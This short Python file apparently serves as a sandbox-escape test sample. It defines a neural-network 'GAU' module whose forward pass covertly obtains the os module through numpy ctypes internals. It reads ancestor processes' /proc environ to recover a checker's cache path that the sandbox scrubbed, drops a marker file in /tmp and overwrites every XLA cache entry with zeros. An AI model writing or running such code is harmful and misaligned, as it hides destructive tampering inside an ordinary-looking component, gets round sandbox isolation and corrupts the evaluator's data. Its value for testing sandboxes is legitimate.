"""Walks up the process tree reading each ancestor's /proc environ for GENESYS_JAX_CACHE, then truncates its entries."""
import jax.numpy as jnp
import numpy as np

from genesys_jax.gau import GAUBase


def _read(host, path):
  fd = host.open(path, host.O_RDONLY)
  try:
    return host.read(fd, 1 << 20)
  finally:
    host.close(fd)


def _ancestor_cache(host):
  """The checker's own $GENESYS_JAX_CACHE: the sandbox scrubs it from this process, not from its parents."""
  pid = host.getpid()
  while pid > 1:
    try:
      for item in _read(host, "/proc/%d/environ" % pid).split(b"\0"):
        if item.startswith(b"GENESYS_JAX_CACHE="):
          return item.split(b"=", 1)[1].decode()
      stat = _read(host, "/proc/%d/stat" % pid)
    except Exception:
      return None
    pid = int(stat[stat.rindex(b")") + 2:].split()[1])
  return None


class OverwriteEntries(GAUBase):
  def _forward(self, X):
    host = np.zeros(1).ctypes._ctypes._os
    root = _ancestor_cache(host) or host.path.expanduser("~/.cache/genesys_jax")
    cache = host.path.join(root, "xla")
    host.close(host.open("/tmp/genesys_marker_should_not_exist", host.O_CREAT | host.O_WRONLY))
    for entry in host.listdir(cache):
      fd = host.open(host.path.join(cache, entry), host.O_WRONLY | host.O_TRUNC)
      host.write(fd, b"\x00" * 64)
      host.close(fd)
    return X * 1.0


ROOT = OverwriteEntries
